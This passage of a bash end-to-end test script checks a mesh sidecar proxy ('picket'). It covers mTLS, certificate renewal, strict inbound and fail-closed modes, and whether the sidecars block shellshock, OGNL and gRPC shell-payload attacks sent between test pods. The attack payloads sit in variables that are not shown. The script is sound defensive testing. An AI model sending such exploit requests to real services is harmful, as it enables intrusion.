  WATCH=${PID[identity]} wait_for "identity service: a 'certificate issued' log line for e2e/$role from ${IDENTITY_PEER[$role]}" 5 issued_to "$role"
done
ok "identity service log: e2e/client issued to ${IDENTITY_PEER[client]}*, e2e/server to ${IDENTITY_PEER[server]}*"
issued=$(identity_metric "$S_ISSUED")
[ "$issued" = 2 ] || die "identity service: $S_ISSUED is $issued, expected 2"
ok "identity service: $S_ISSUED $issued"

# --- 1. benign requests, IPv4 and IPv6 (5.), across mesh mTLS (6.) -------------------------
S_MESH_IN=$(printf 'picket_mesh_connections_total{direction="inbound",peer="%s"}' "$CLIENT_ID")
S_MESH_OUT=$(printf 'picket_mesh_connections_total{direction="outbound",peer="%s"}' "$SERVER_ID")
probes() { printf 'picket_mesh_probes_total{result="%s"}' "$1"; }

# benign URL_HOST FAMILY: a benign POST from the client app to server:8080 passes both
# sidecars (client outbound, server inbound) and reaches the application; between the pods
# it is mesh mTLS (the server sidecar counts a mesh connection from the client's SPIFFE id;
# the capture on the server's veth has TLS records and none of the request in clear).
benign() {
  local host=$1 fam=$2 out0 in0 mesh_in0 mesh_out0 token
  token=tok-$fam-$RANDOM$RANDOM
  local path="/e2e/hello-$fam?q=bash+away&id=$token" body="greeting-body-$token"
  out0=$(metric client "$S_OUT_ALLOW")
  in0=$(metric server "$S_IN_ALLOW")
  mesh_in0=$(metric server "$S_MESH_IN")
  mesh_out0=$(metric client "$S_MESH_OUT")
  mark
  capture_start "benign-$fam" v-server
  client_curl -f -H "X-E2E-Token: hdr-$token" --data "$body" "http://$host:8080$path"
  capture_stop "benign-$fam"
  expect_echo "$path"
  app_saw "$WORK/server-app8080.err" "$path" || die "the server application did not log $path"
  expect_metric_delta client "$S_OUT_ALLOW" "$out0" 1
  expect_metric_delta server "$S_IN_ALLOW" "$in0" 1
  expect_metric_delta server "$S_MESH_IN" "$mesh_in0" 1
  expect_metric_delta client "$S_MESH_OUT" "$mesh_out0" 1
  no_log client
  no_log server
  pcap_check "benign-$fam" tls 8080 "$path" "hdr-$token" "$body"
  ok "$fam: client app -> $host:8080 POST $path: 200 from the application, through the client sidecar (outbound allow +1, mesh to $SERVER_ID) and the server sidecar (inbound allow +1, mesh from $CLIENT_ID); mTLS on the wire"
}
step "1. benign HTTP from the client app to the server app (IPv4, IPv6), mesh mTLS between the sidecars"
benign "$SERVER4" ipv4
benign "[$SERVER6]" ipv6
[ "$(metric client "$(probes meshed)")" -ge 1 ] || die "client sidecar: no meshed probe counted"
[ "$(metric client picket_mesh_probe_cache_entries)" -ge 2 ] || die "client sidecar: the probe cache should hold the server's two addresses"
ok "client sidecar: $(probes meshed) $(metric client "$(probes meshed)"), picket_mesh_probe_cache_entries $(metric client picket_mesh_probe_cache_entries)"

step "1. benign gRPC from the client app to the server's gRPC service"
in0=$(metric server "$(series inbound grpc allow)")
grpc_say "$SERVER4:50051" "hello from the client"
[ "$GRPC_STATUS" = OK ] || die "benign gRPC call: status $GRPC_STATUS ($GRPC_DETAILS)"
expect_metric_delta server "$(series inbound grpc allow)" "$in0" 1
ok "gRPC Say: OK, inspected inbound as grpc by the server sidecar"

# --- 2. attacks, client sidecar in protect mode: refused on the way out ---------------------
# attack NAME URL_HOST PORT PHASE: sends the attack from the client app, leaves RC and the
# path used in APATH.
attack() {
  attack_args "$1"
  APATH=/e2e/$4/$1
  mark
  client_curl "${ARGS[@]}" "http://$2:$3$APATH"
}

step "2. attacks with the client sidecar in protect mode: reset by the client sidecar (outbound)"
for a in "${ATTACKS[@]}"; do
  attack "$a" "$SERVER4" 8080 protect
  [ "$RC" = "$CURL_RESET" ] || die "$a: curl exit $RC, expected $CURL_RESET (connection reset); body: $BODY"
  expect_log client event=block direction=outbound mode=protect action=reset proto=http1 \
    "signature.id=$SIG" "src^=$CLIENT4:" "dst=$SERVER4:8080" "path=$APATH" pod=client \
    "peer_identity=$SERVER_ID"
  no_log server
  ! app_saw "$WORK/server-app8080.err" "$APATH" || die "$a reached the server application"
  ok "$a: reset (curl exit $RC), logged once by the client sidecar as outbound $SIG (peer $SERVER_ID); the server never saw it"
done
mark
grpc_say "$SERVER4:50051" "$GRPC_ATTACK"
[ "$GRPC_STATUS" = PERMISSION_DENIED ] || die "gRPC shell payload: status $GRPC_STATUS, expected PERMISSION_DENIED"
expect_log client event=block direction=outbound proto=grpc action=grpc_status location=grpc:message \
  path=/picket.test.Echo/Say "dst=$SERVER4:50051"
no_log server
grpc_never_saw_payload
ok "gRPC shell payload: PERMISSION_DENIED, logged by the client sidecar (outbound); the server never saw it"

step "5. an attack over IPv6, protect mode"
attack shellshock "[$SERVER6]" 8080 protect6
[ "$RC" = "$CURL_RESET" ] || die "IPv6 shellshock: curl exit $RC, expected $CURL_RESET"
expect_log client event=block direction=outbound "signature.id=$SIG" "src^=[$CLIENT6]:" "dst=[$SERVER6]:8080" \
  "peer_identity=$SERVER_ID"
no_log server
ok "IPv6 shellshock: reset by the client sidecar (outbound)"

# --- 3. the un-meshed external server -------------------------------------------------------
step "3. the external (un-meshed) server is reached through the client sidecar, in plaintext"
out0=$(metric client "$S_OUT_ALLOW")
plain0=$(metric client "$(probes plain)")
path="/e2e/external?from=client&id=ext-$RANDOM$RANDOM"
mark
capture_start external v-external
client_curl -f "http://$EXTERNAL4:8080$path"
capture_stop external
expect_echo "$path"
app_saw "$WORK/external-app8080.err" "$path" || die "the external application did not log $path"
expect_metric_delta client "$S_OUT_ALLOW" "$out0" 1
expect_metric_delta client "$(probes plain)" "$plain0" 1
no_log client
pcap_check external clear 8080 "$path"
ok "client app -> $EXTERNAL4:8080: 200, counted by the client sidecar as outbound allow; its mesh probe said plain; the path crossed in clear"
attack shellshock "$EXTERNAL4" 8080 external
[ "$RC" = "$CURL_RESET" ] || die "shellshock to the external server: curl exit $RC"
expect_log client event=block direction=outbound "dst=$EXTERNAL4:8080" peer_identity=
! app_saw "$WORK/external-app8080.err" "$APATH" || die "the attack reached the external application"
ok "an attack to the external server is reset by the client sidecar (outbound)"

# no_answer WHAT: the client app got no HTTP response: its connection was reset (curl 56) or
# closed before any answer (curl 52: the client sidecar, in monitor mode, closes the client's
# connection when the server sidecar resets its own).
no_answer() {
  case $RC in
    52 | 56) ;;
    *) die "$1: curl exit $RC, expected 52 or 56 (no answer); body: $BODY" ;;
  esac
}

# --- 2 again: client sidecar in monitor mode, the server sidecar blocks inbound -------------
step "2. client sidecar restarted with --mode monitor: it alerts, the server sidecar blocks (inbound)"
stop_process "${PICKET_PID[client]}"
mv "$WORK/client-picket.out" "$WORK/client-picket-protect.out"
start_picket client "${CLIENT_MESH[@]}" --mode monitor
for a in "${ATTACKS[@]}"; do
  attack "$a" "$SERVER4" 8080 monitor
  no_answer "$a"
  expect_log client event=alert direction=outbound mode=monitor "signature.id=$SIG" "dst=$SERVER4:8080" "path=$APATH" \
    "peer_identity=$SERVER_ID"
  expect_log server event=block direction=inbound mode=protect action=reset proto=http1 \
    "signature.id=$SIG" "src^=$CLIENT4:" "dst=$SERVER4:8080" "path=$APATH" pod=server \
    "peer_identity=$CLIENT_ID"
  ! app_saw "$WORK/server-app8080.err" "$APATH" || die "$a reached the server application"
  ok "$a: client sidecar alert (outbound), server sidecar block (inbound, peer $CLIENT_ID), curl exit $RC; the application never saw it"
done
# A refused call, client sidecar in monitor mode: the server sidecar refuses it.
mark
grpc_say "$SERVER4:50051" "$GRPC_ATTACK"
expect_log server event=block direction=inbound proto=grpc action=grpc_status location=grpc:message \
  path=/picket.test.Echo/Say "src^=$CLIENT4:" "dst=$SERVER4:50051" "peer_identity=$CLIENT_ID"
grpc_never_saw_payload
[ "$GRPC_STATUS" = PERMISSION_DENIED ] || die "gRPC shell payload (monitor): status $GRPC_STATUS, expected PERMISSION_DENIED"
expect_log client event=alert direction=outbound proto=grpc location=grpc:message
ok "gRPC shell payload: PERMISSION_DENIED from the server sidecar (inbound), alert on the client sidecar; the server never saw it"

step "5. an attack over IPv6, client in monitor mode"
attack ognl "[$SERVER6]" 8080 monitor6
no_answer "IPv6 ognl"
expect_log client event=alert direction=outbound "dst=[$SERVER6]:8080"
expect_log server event=block direction=inbound "signature.id=$SIG" "src^=[$CLIENT6]:" "dst=[$SERVER6]:8080" \
  "peer_identity=$CLIENT_ID"
ok "IPv6 OGNL: blocked by the server sidecar (inbound)"
benign "[$SERVER6]" ipv6-monitor

# --- 4. an excluded inbound port bypasses the server sidecar --------------------------------
step "4. server port 8081 is excluded from capture (picket init --exclude-inbound-ports 8081): plaintext, the server sidecar bypassed"
capture_start excluded v-server
attack shellshock "$SERVER4" 8081 excluded
capture_stop excluded
expect_echo "$APATH"
pcap_check excluded clear 8081 "$APATH"
app_saw "$WORK/server-app8081.err" "$APATH" || die "the application on 8081 did not log $APATH"
expect_log client event=alert direction=outbound "dst=$SERVER4:8081"
no_log server
ok "shellshock to :8081 reached the application (200) in plaintext (8081 is in the server's announced plain ports), no line from the server sidecar; the client sidecar (monitor) alerted"

# --- renewal --------------------------------------------------------------------------------
# renewed ROLE: ROLE's sidecar has renewed its first certificate (at 65-75 % of its lifetime).
renewed() { [ "$(metric "$1" "$S_RENEW_OK")" -ge 2 ]; }
step "renewal: the sidecars renew their $WORKLOAD_TTL certificates from the identity service; mTLS goes on with the new ones"
for role in server client; do
  WATCH=${PICKET_PID[$role]} wait_for "$role sidecar: $S_RENEW_OK >= 2" "$((WORKLOAD_TTL_S + 5))" renewed "$role"
  # Renewed at 65-75 % of its lifetime, the certificate in force has about 5 s or more left.
  left=$(($(metric "$role" "$S_EXPIRY") - $(date +%s)))
  [ "$left" -gt 2 ] || die "$role sidecar: after renewal its certificate expires in $left s"
  ok "$role sidecar: $S_RENEW_OK $(metric "$role" "$S_RENEW_OK"), the certificate in force expires in $left s"
done
benign "$SERVER4" ipv4-renewed
benign "[$SERVER6]" ipv6-renewed

# --- 7. strict inbound ----------------------------------------------------------------------
step "7. server sidecar restarted with --mesh-inbound strict: the un-meshed external client is refused, the meshed client served"
stop_process "${PICKET_PID[server]}"
mv "$WORK/server-picket.out" "$WORK/server-picket-permissive.out"
start_picket server "${SERVER_ARGS[@]}" --mesh-inbound strict
S_REFUSED='picket_connection_errors_total{reason="plaintext_refused"}'
refused0=$(metric server "$S_REFUSED")
path="/e2e/strict/from-external-$RANDOM"
RC=0
BODY=$(in_ns "$EXTERNAL" "${AS_APP[@]}" curl -q -sS -g --max-time 10 "http://$SERVER4:8080$path" 2>"$WORK/curl.err") || RC=$?
no_answer "plaintext from the external pod to a strict server"
expect_metric_delta server "$S_REFUSED" "$refused0" 1
! app_saw "$WORK/server-app8080.err" "$path" || die "the strict server's application received plaintext from the external pod"
ok "external pod -> $SERVER4:8080 in plaintext: refused (curl exit $RC), $S_REFUSED +1, the application never saw it"
benign "$SERVER4" ipv4-strict

# --- 8. fail closed --------------------------------------------------------------------------
step "8. a destination cached as meshed that is no longer a mesh peer (pod IP reuse): one connection fails, never downgraded; the next probes again and goes plain"
stop_process "${PICKET_PID[client]}"
mv "$WORK/client-picket.out" "$WORK/client-picket-monitor.out"
start_picket client "${CLIENT_MESH[@]}"
benign "$SERVER4" ipv4-fresh-cache
stop_process "${PICKET_PID[server]}"
mv "$WORK/server-picket.out" "$WORK/server-picket-strict.out"
start_picket server
S_UP_MTLS='picket_connection_errors_total{reason="upstream_mtls"}'
failed0=$(metric client "$S_UP_MTLS")
plain0=$(metric client "$(probes plain)")
path="/e2e/fail-closed/first-$RANDOM"
client_curl "http://$SERVER4:8080$path"
no_answer "the first request to a former mesh peer"
expect_metric_delta client "$S_UP_MTLS" "$failed0" 1
! app_saw "$WORK/server-app8080.err" "$path" || die "$path reached the application: the client sidecar downgraded to plaintext"
ok "first request after the swap: no answer (curl exit $RC), $S_UP_MTLS +1, nothing reached the application in plaintext"
path="/e2e/fail-closed/second-$RANDOM"
capture_start reprobed v-server
client_curl -f "http://$SERVER4:8080$path"
capture_stop reprobed
expect_echo "$path"
expect_metric_delta client "$(probes plain)" "$plain0" 1
pcap_check reprobed clear 8080 "$path"
ok "second request: probed again (plain +1), 200 from the application in plaintext"

step "all checks passed ($(($(date +%s) - STARTED)) s)"
